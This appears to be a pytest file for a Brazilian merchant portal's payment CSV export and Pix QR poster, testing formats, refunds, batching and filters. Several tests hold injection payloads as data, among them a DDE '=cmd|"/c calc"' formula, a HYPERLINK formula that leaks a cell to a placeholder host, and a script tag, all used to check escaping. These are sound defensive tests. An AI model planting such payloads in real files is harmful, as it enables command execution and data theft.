"""The CSV export: its content, its formats, its batches; and the poster."""

from __future__ import annotations

import csv
import io
import re

import pytest

from blueprints.portal.csv_cells import escape_formula
from tests.support.scanner import QR_CODES


def read(answer, separator=","):
    """The rows of a file, parsed strictly."""
    text = answer.data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))


def test_the_file_holds_what_the_list_holds(alice, charge, bank, clock):
    """Newest first, times of the viewer's zone that Excel reads as dates, money with a point."""
    charge(value="10.00")
    clock.advance(seconds=1)
    paid = charge(value="1234.56", order_id="FV-1", description='Queijo "meia cura", 500 g')
    bank.confirm(paid, end_to_end_id="E123456782026112015000000001")
    answer = alice.get("/portal/payments.csv")

    assert answer.mimetype == "text/csv"
    assert re.search(
        r'filename="pagamentos-2026-11-20\.csv"', answer.headers["Content-Disposition"]
    )
    assert answer.headers["Cache-Control"] == "no-store"
    head, first, second = read(answer)
    assert head[0] == "Identificador"
    assert head[2] == "Criado em (America/Sao_Paulo)"
    assert head[5:9] == ["Pagador", "Valor (R$)", "Devolvido (R$)", "Líquido (R$)"]
    assert first == [
        paid["id"],
        "Pago",
        "2026-11-20 12:00:01",
        "2026-11-20 12:30:01",
        "2026-11-20 12:00:01",
        "Bob de Souza",
        "1234.56",
        "0.00",
        "1234.56",
        "FV-1",
        'Queijo "meia cura", 500 g',
        "E123456782026112015000000001",
    ]
    assert second[1] == "Aguardando"
    assert (second[4], second[5], second[8]) == ("", "", "0.00")
    assert answer.data.endswith(b"\r\n")
    assert not answer.data.startswith("\ufeff".encode())


def test_excel_in_brazil_can_open_the_file(alice, charge):
    """`excel` means a byte order mark, semicolons and decimal commas; `bom` only the mark."""
    charge(value="1234.56", description="pão; queijo")
    answer = alice.get("/portal/payments.csv?excel=1")
    assert answer.data.startswith("\ufeff".encode())
    row = read(answer, ";")[1]
    assert (row[6], row[10]) == ("1234,56", "pão; queijo")
    with_bom = alice.get("/portal/payments.csv?bom=1")
    assert with_bom.data.startswith("\ufeff".encode())
    assert read(with_bom)[1][6] == "1234.56"


@pytest.mark.parametrize(
    "text", ["=1+1", "+55", "-2", "@SUM(A1)", "\uff1d1", '=HYPERLINK("http://x")', '"=1+1"', " =1"]
)
def test_a_formula_becomes_text(text):
    """An order named `=cmd|…` must not run on the merchant's computer."""
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("a;=1+1", "a;'=1+1"),
        ('Obrigado;"=1+1";', 'Obrigado;\'"=1+1";'),
        ("Nota,=1+1,x", "Nota,'=1+1,x"),
        ("a; \u00a0=1", "a;' \u00a0=1"),
        ("a|@SUM(A1)", "a|'@SUM(A1)"),
        ("a\n=1", "a\n'=1"),
        ("a;;=1", "a;;'=1"),
    ],
)
def test_a_formula_behind_any_separator_becomes_text(text, harmless):
    """A program that splits the file at another separator does not see the quotes around it."""
    assert escape_formula(text) == harmless


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("query", ["", "?bom=1", "?excel=1"])
def test_no_cell_is_live_whichever_separator_opens_the_file(alice, charge, separator, query):
    """Excel splits at the separator of the system, not at that of the file."""
    for text in (
        "a;=1+1",
        'a,"=1+1"',
        'x|;"@SUM(A1)";',
        'Obrigado;=HYPERLINK("http://e?x="&A2;"a");',
    ):
        charge(description=text, order_id="T;=1+1;" + text[:9])
    text = alice.get(f"/portal/payments.csv{query}").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
    assert [cell for cell in cells if cell.lstrip(' "')[:1] in tuple("=+-@")] == []


def test_every_cell_is_quoted(alice, charge):
    """Also numbers: a decimal comma is no separator."""
    charge(value="1.00")
    for line in alice.get("/portal/payments.csv?excel=1").data.decode("utf-8-sig").splitlines():
        assert re.fullmatch(r'"[^"]*"(;"[^"]*")*', line)


def test_a_refund_has_a_row_of_its_own(alice, charge, bank, give_back):
    """The payment's row has what is left; the refund's amount is negative, so sums stay true."""
    payment = charge(value="54.90", order_id="FV-1")
    bank.confirm(payment)
    give_back(payment, "10,00")

    _head, paid, back = read(alice.get("/portal/payments.csv"))

    assert paid[1] == "Devolvido em parte"
    assert paid[6:9] == ["54.90", "10.00", "44.90"]
    assert back[:2] == [payment["id"], "Devolução feita"]
    assert back[6:9] == ["-10.00", "", ""]
    assert re.fullmatch(r"2026-11-20 \d\d:\d\d:\d\d", back[4])


def test_the_days_may_be_those_of_the_receipt(alice, charge, bank, clock):
    """Bookkeepers count money on the day on which it came, not on which it was asked for."""
    early = charge(value="1.00", expires_in=200_000, order_id="A")
    clock.advance(days=1)
    bank.confirm(early)
    late = charge(value="2.00", order_id="B")
    clock.advance(seconds=1)
    bank.confirm(late)
    charge(value="3.00")

    def ids(query: str) -> list[str]:
        return [row[0] for row in read(alice.get(f"/portal/payments.csv?{query}"))[1:]]

    days = "from=2026-11-21&to=2026-11-21"
    assert ids(f"{days}&by=receipt") == [late["id"], early["id"]]
    assert early["id"] not in ids(days)
    assert ids("from=2026-11-20&to=2026-11-20&by=receipt") == []
    assert ids(f"{days}&by=receipt&order=A") == [early["id"]]
    assert ids(f"{days}&by=receipt&state=expired") == []
    assert "by=receipt" in alice.get(f"/portal/payments?{days}").text


def test_receipts_of_one_instant_are_exported_once(alice, charge, bank, monkeypatch):
    """The order by receipt has many equal rows at the end of a batch."""
    monkeypatch.setattr("blueprints.portal.export.BATCH", 2)
    for _ in range(7):
        bank.confirm(charge(value="1.00"))
    ids = [row[0] for row in read(alice.get("/portal/payments.csv?by=receipt"))[1:]]
    assert len(ids) == len(set(ids)) == 7


@pytest.mark.parametrize("text", ["Queijo", "1-2", "a=b", "", "(+55)"])
def test_other_text_is_unchanged(text):
    """An extra apostrophe would make the description wrong."""
    assert escape_formula(text) == text


def test_a_hostile_description_stays_in_its_cell(alice, charge):
    """Quotes, commas and a formula's first character."""
    hostile = '=cmd|"/c calc"!A1, and more'
    charge(description=hostile)
    assert read(alice.get("/portal/payments.csv"))[1][10] == f"'{hostile}"


def test_the_export_has_the_filters_of_the_list(alice, charge, bank, clock):
    """The export has all matching payments; the list's cursor is not a filter."""
    paid = charge(description="Queijo")
    bank.confirm(paid)
    clock.advance(days=1)
    other = charge(description="Queijo", order_id="FV-2")
    both = {paid["id"], other["id"]}
    for query, expected in (
        ("state=confirmed", {paid["id"]}),
        ("order=FV-2", {other["id"]}),
        ("from=2026-11-21&to=2026-11-21", {other["id"]}),
        ("q=queijo", both),
        (f"after={other['id']}", both),
    ):
        rows = read(alice.get(f"/portal/payments.csv?{query}"))[1:]
        assert {row[0] for row in rows} == expected, query
    assert alice.get("/portal/payments.csv?state=x").status_code == 400


def test_several_batches_export_each_payment_once(alice, charge, monkeypatch):
    """Also when many were created at one instant, and at the exact end of a batch."""
    monkeypatch.setattr("blueprints.portal.export.BATCH", 7)
    for number in (13, 1, 1):  # 13, 14 (two whole batches) and 15
        for _ in range(number):
            charge(value="1.00")
        ids = [row[0] for row in read(alice.get("/portal/payments.csv"))[1:]]
        assert len(ids) == len(set(ids))
    assert len(ids) == 15


def test_the_poster_shows_the_shops_own_code(alice):
    """The QR is the merchant's static code, with the amount if one is fixed."""
    import zxingcpp
    from PIL import Image

    from core.pix import br_code

    page = alice.get("/portal/poster?value=25,00")
    assert page.status_code == 200
    assert "R$\xa025,00" in page.text
    for query, centavos in (("", None), ("?value=25,00", 2500), ("?value=25.00", 2500)):
        answer = alice.get(f"/portal/poster/qr.png{query}")
        with Image.open(io.BytesIO(answer.data)) as picture:
            assert picture.width >= 1000
            (barcode,) = zxingcpp.read_barcodes(picture.convert("L"), formats=QR_CODES)
        code = br_code.decode(barcode.text)
        assert (code.key, code.amount_centavos) == ("alice@feira.example", centavos)
    for name in ("qr.svg", "poster.svg"):
        answer = alice.get(f"/portal/poster/{name}?value=25,00")
        assert answer.mimetype == "image/svg+xml"
        assert "attachment" in answer.headers["Content-Disposition"]
    assert "R$\xa025,00" in alice.get("/portal/poster/poster.svg?value=25,00").text


@pytest.mark.parametrize("value", ["0", "-1", "abc", "1,999", "99.999.999.999,00"])
def test_an_amount_that_no_code_can_hold_is_refused(alice, value):
    """A printed poster with a wrong amount would hang for months."""
    assert alice.get("/portal/poster", query_string={"value": value}).status_code == 400
    assert alice.get("/portal/poster/qr.png", query_string={"value": value}).status_code == 400


def test_a_shops_name_cannot_inject_markup_into_the_poster(alice):
    """Browsers open the SVG, so the name must be escaped."""
    shop = {
        "name": "<script>alert(1)</script>",
        "city": "Recife",
        "brand_color": "#04694f",
        "grace_seconds": "0",
    }
    assert alice.post("/portal/settings/shop", shop).status_code == 303
    drawing = alice.get("/portal/poster/poster.svg").text
    assert "<script" not in drawing
    assert "&lt;script&gt;" in drawing
